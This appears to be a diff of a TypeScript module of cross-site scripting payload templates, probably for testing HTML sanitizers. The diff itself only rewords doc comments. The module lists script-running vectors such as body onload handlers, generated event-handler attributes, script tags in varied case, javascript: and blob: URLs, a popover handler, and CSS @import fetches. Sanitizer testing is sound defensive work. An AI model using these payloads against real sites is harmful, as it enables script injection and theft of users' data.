@@ -1,6 +1,6 @@
 import { type Recipe, written } from "./attack-recipe.ts";
 
-/** What runs as soon as an element is there. */
+/** Elements that run a script when inserted. */
 export const arrivals: Recipe[] = [
   "<body onload=RUN>",
   "<body onpageshow=RUN>",
@@ -50,13 +50,13 @@ const acts = [
 ];
 const carriers = ["p", "div", "a", "img", "span", "h2", "li", "details", "x-y", "blockquote"];
 
-/** What a reader does to an element, and what happens to it. */
+/** Event handlers of user actions and of the element's lifecycle. */
 export const interactions: Recipe[] = acts.map(
   (act, index) => (run) =>
     `<${carriers[index % carriers.length]} on${act}=${run}>x</${carriers[index % carriers.length]}>`,
 );
 
-/** Scripts themselves, and what a template would make of one. */
+/** Script elements, and template expressions. */
 export const scripts: Recipe[] = [
   "<script>RUN</script>",
   "<SCRIPT>RUN</SCRIPT>",
@@ -125,11 +125,11 @@ const schemes = [
   "blob:RUN",
 ];
 
-/** Addresses that run a script where they are followed, without the entities that only HTML reads. */
+/** URLs that run a script when followed, without entities that only HTML decodes. */
 export const scriptAddresses = (run: string) =>
   schemes.filter((scheme) => !scheme.includes("&")).map((scheme) => scheme.replace("RUN", run));
 
-/** Addresses that are followed, by a reader or by the page itself. */
+/** Elements whose URL is followed, by the user or by the page. */
 export const links: Recipe[] = [
   ...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
   '<a href="javascript:RUN" target=_self>x</a>',
@@ -181,7 +181,7 @@ export const links: Recipe[] = [
   "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=RUN>x</p>",
 ].map(written);
 
-/** Styles that run something or fetch something. */
+/** Styles that run or fetch something. */
 export const sheets: Recipe[] = [
   "<style>@import 'AWAY';</style>",
   "<style>@import url(AWAY);</style>",
